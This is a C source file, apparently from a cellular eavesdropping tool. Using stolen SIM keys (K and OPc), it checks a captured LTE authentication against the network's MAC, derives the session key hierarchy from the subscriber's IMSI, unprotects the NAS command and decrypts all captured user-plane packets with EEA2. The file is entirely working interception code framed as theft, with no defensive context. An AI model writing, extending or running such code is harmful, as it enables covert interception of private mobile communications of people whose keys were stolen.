#include "theft/break_in.h"

#include <string.h>

#include "auth/milenage.h"
#include "radio/lte_keys.h"

/* SQN is hidden by AK; undo that, then the MAC must match. */
bool break_in_fits(const struct session *session, const uint8_t k[static 16], const uint8_t opc[static 16])
{
	uint8_t res[8], ak[6], sqn[6], mac[8];
	struct milenage m;
	bool fits = false;
	int i;

	if (milenage_start(&m, k, opc, session->rand) == OK && milenage_f2_f5(&m, res, ak) == OK) {
		for (i = 0; i < 6; i++)
			sqn[i] = session->autn[i] ^ ak[i];
		fits = milenage_f1(&m, mac, sqn, session->autn + 6) == OK &&
		       !memcmp(mac, session->autn + 8, 8);
	}
	milenage_stop(&m);
	return fits;
}

/* TS 24.301 9.9.3.32; the home network's code begins the IMSI. */
static void serving_network(uint8_t sn[static 3], const char *imsi, int mnc_length)
{
	const int third = mnc_length == 3 ? imsi[5] - '0' : 0xF;

	sn[0] = (uint8_t)((imsi[1] - '0') << 4 | (imsi[0] - '0'));
	sn[1] = (uint8_t)(third << 4 | (imsi[2] - '0'));
	sn[2] = (uint8_t)((imsi[4] - '0') << 4 | (imsi[3] - '0'));
}

static bool cipher_keys(uint8_t ck[static 16], uint8_t ik[static 16], const struct session *session,
			const struct stolen_key *key)
{
	struct milenage m;
	bool done =
		milenage_start(&m, key->k, key->opc, session->rand) == OK && milenage_f3_f4(&m, ck, ik) == OK;

	milenage_stop(&m);
	return done;
}

/* The session's keys, confirmed by the network's own MAC. The listener does
 * not know how long the network code is, so tries both. */
static bool session_keys(struct lte_keys *keys, const struct session *session, const struct stolen_key *key)
{
	uint8_t ck[16], ik[16], sn[3], copy[NAS_MAX];
	int mnc_length;

	if (strlen(session->imsi) < 6 || !cipher_keys(ck, ik, session, key))
		return false;
	for (mnc_length = 2; mnc_length <= 3; mnc_length++) {
		serving_network(sn, session->imsi, mnc_length);
		if (lte_keys_derive(keys, ck, ik, sn, session->autn, 0) < 0)
			return false;
		memcpy(copy, session->command, session->command_length);
		if (nas_unprotect(copy, session->command_length, keys, 0, DOWNLINK) > 0)
			return true;
	}
	return false;
}

bool break_in_open(struct session *session, const struct stolen_key *key)
{
	struct lte_keys keys;
	size_t i;

	if (!break_in_fits(session, key->k, key->opc) || !session_keys(&keys, session, key))
		return false;
	for (i = 0; i < session->pdu_count; i++) {
		struct pdu *pdu = &session->pdus[i];

		if (eea2(pdu->data, pdu->length, keys.kup_enc, pdu->count, AIR_DRB - 1, pdu->direction) < 0)
			return false;
	}
	return true;
}
